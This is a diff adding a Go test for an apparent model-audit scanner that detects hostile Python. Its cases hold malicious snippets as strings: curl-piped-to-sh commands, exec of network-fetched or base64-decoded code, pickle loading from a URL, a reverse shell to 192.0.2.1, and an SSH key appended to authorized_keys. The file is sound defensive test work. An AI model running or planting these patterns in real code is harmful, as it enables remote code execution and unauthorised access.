@@ -1,0 +1,50 @@
+package source_test
+
+import (
+	"context"
+	"testing"
+	"time"
+
+	"github.com/modelaudit/modelaudit/internal/hostile"
+	"github.com/modelaudit/modelaudit/internal/source"
+)
+
+func TestDrops(t *testing.T) {
+	const url = "http://192.0.2.1/x"
+	for _, c := range []struct{ name, text, want string }{
+		{name: "a command", text: "import os\nos.system('curl " + url + " | sh')\n", want: "os.system"},
+		{name: "a command in a list", text: "import subprocess as s\ns.Popen(['sh', '-c', 'curl " + url + " | sh'])\n", want: "subprocess.Popen"},
+		{name: "a name put together", text: "getattr(__import__('o'+'s'), 'sys'+'tem')('curl " + url + " | sh')\n", want: "os.system"},
+		{name: "fetched", text: "import urllib.request as u\nexec(u.urlopen('" + url + "').read())\n", want: "exec"},
+		{name: "fetched before", text: "import requests\nr = requests.get('" + url + "')\ncode = r.text\nexec(code)\n", want: "exec"},
+		{name: "fetched in a block", text: "from urllib.request import urlopen\nwith urlopen('" + url + "') as f:\n    exec(f.read())\n", want: "exec"},
+		{name: "decoded", text: "import base64\nexec(base64.b64decode('ZWNobw=='))\n", want: "exec"},
+		{name: "decoded and unmarshalled", text: "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))\n", want: "exec"},
+		{name: "decoded for a shell", text: "import base64, os\nos.system(base64.b64decode('ZWNobw==').decode())\n", want: "os.system"},
+		{name: "a pickle from the network", text: "import pickle, requests\npickle.loads(requests.get('" + url + "').content)\n", want: "pickle.loads"},
+		{name: "a shell for the network", text: "import socket, subprocess, os\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n", want: "os.dup2"},
+		{name: "a key", text: "open('/root/.ssh/authorized_keys', 'a').write('ssh-rsa A')\n", want: "open"},
+
+		{name: "an honest command", text: "import os\nos.system('curl -o x.tar.gz " + url + "')\n"},
+		{name: "an honest process", text: "import subprocess\nsubprocess.run(['git', 'rev-parse', 'HEAD'])\n"},
+		{name: "data decoded for a program", text: "import base64, subprocess\nsubprocess.check_output(['ld', '-o', 'x'], input=base64.b64decode(s))\n"},
+		{name: "data fetched", text: "import requests\nimages = requests.get('" + url + "').content\neval('1 + 1')\n"},
+		{name: "a pickle in base64", text: "import base64, pickle\npickle.loads(base64.b64decode(s))\n"},
+		{name: "code of a file", text: "exec(open('version.py').read())\n"},
+		{name: "keys that are read", text: "open('/root/.ssh/authorized_keys').read()\n"},
+		{name: "a server", text: "import socket, os\ns = socket.socket()\nos.dup2(1, 2)\n"},
+		{name: "no Python", text: "exec(base64.b64decode('ZWNobw==')) is how (they do it\n"},
+	} {
+		got, err := source.Drops(c.text, hostile.NewBudget(context.Background(), hostile.DefaultLimits(), int64(len(c.text)), time.Now))
+		if err != nil {
+			t.Errorf("%s: %v", c.name, err)
+		}
+		name := ""
+		if len(got) > 0 {
+			name = got[0].Name
+		}
+		if name != c.want {
+			t.Errorf("%s: got %q (%v), want %q", c.name, name, got, c.want)
+		}
+	}
+}
